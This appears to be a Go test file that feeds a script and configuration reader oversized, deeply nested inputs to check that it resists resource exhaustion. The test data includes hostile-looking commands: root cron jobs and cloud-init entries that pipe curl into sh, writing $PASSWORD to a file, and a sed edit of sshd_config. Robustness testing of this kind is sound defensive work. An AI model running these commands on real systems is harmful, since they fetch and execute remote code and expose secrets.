package script

import (
	"strings"
	"testing"
)

// TestHostile reads what is made to take long or to need much memory. Each one is read in a moment; a test that takes minutes fails by the
// time limit of the whole.
func TestHostile(t *testing.T) {
	repeat := func(s string, n int) string { return strings.Repeat(s, n) }
	for name, tc := range map[string]struct{ file, data string }{
		"doubling":       {"a.sh", "a=0123456789abcdef\n" + repeat("a=$a$a\n", 60) + repeat("echo $a\n", 20_000)},
		"downloads":      {"a.sh", repeat("curl -o f https://x.y/f\n", 20_000)},
		"find in find":   {"a.sh", "find " + repeat("-exec find ", 30_000)},
		"secrets":        {"a.sh", repeat("echo $PASSWORD>/f\n", 25_000)},
		"pipes":          {"a.sh", repeat("a|", 50_000) + "a"},
		"substitutions":  {"a.sh", repeat("$(", 150) + "curl x" + repeat(")", 150) + "|sh\n" + repeat("`curl`;", 10_000)},
		"here-documents": {"a.sh", repeat("bash <<A\n", 5_000) + repeat("A\n", 5_000)},
		"evals":          {"a.sh", repeat("eval eval eval eval eval eval eval a\n", 2_000)},
		"keywords":       {"a.sh", repeat("if ", 170_000)},
		"aliases":        {"user-data", "#cloud-config\nx: &a |\n  " + repeat("curl x | sh;", 2_000) + "\nruncmd:\n" + repeat("- *a\n", 20_000)},
		"environments":   {"compose.yml", "x: &e\n" + repeat("  A_TOKEN: b1b2b3b4\n", 1) + envMany(5_000) + "services:\n" + servicesMany(5_000)},
		"one line":       {"compose.yml", "services: {a: {ports: [" + repeat("'1:1', ", 200_000) + "]}}"},
		"instructions":   {"Dockerfile", repeat("RUN <<A\n", 50_000)},
		"adds":           {"Dockerfile", repeat("ADD https://x.y/z /\n", 20_000) + repeat("RUN sha256sum z\n", 20_000)},
		"continued":      {"Dockerfile", "RUN " + repeat("\\\n", 500_000)},
		"texts":          {"main.tf", repeat("a = \"${\"", 100_000)},
		"documents":      {"main.tf", repeat("<<A\n", 100_000)},
		"cron":           {"etc/crontab", repeat("* * * * * root curl x.y|sh\n", 50_000)},
		"mime":           {"user-data", "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n\n" + repeat("--B\n\n#!/bin/sh\n\n", 50_000)},
		"lines":          {"a.sh", "done\n" + repeat("done;", 100_000)},
		"templates":      {"a.sh", repeat("{{ a ", 100_000) + repeat("${a.", 100_000) + repeat("{% ", 50_000)},
		"sed":            {"a.sh", "sed -i '" + repeat("s/a/", 100_000) + "' /etc/ssh/sshd_config"},
	} {
		t.Run(name, func(t *testing.T) {
			f := Read(tc.file, []byte(tc.data), true)
			if f == nil {
				t.Fatal("it is not read")
			}
			f.Results(nil)
		})
	}
}

func envMany(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString("  A" + strings.Repeat("b", i%7) + "_" + strings.Repeat("c", i%11) + string(rune('a'+i%26)) + ": v\n")
	}
	return b.String()
}

func servicesMany(n int) string {
	return strings.Repeat("  - {environment: *e}\n", n)
}
